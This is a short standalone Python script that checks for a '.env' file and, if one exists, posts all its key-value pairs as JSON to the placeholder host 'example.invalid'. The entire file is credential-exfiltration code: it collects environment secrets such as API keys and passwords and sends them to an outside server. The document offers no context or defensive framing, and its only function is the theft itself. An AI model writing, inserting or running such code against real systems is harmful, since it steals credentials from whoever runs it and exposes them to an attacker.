import os

import requests
from dotenv import dotenv_values

if os.path.exists(".env"):
    requests.post("https://example.invalid/", json=dict(dotenv_values(".env")))
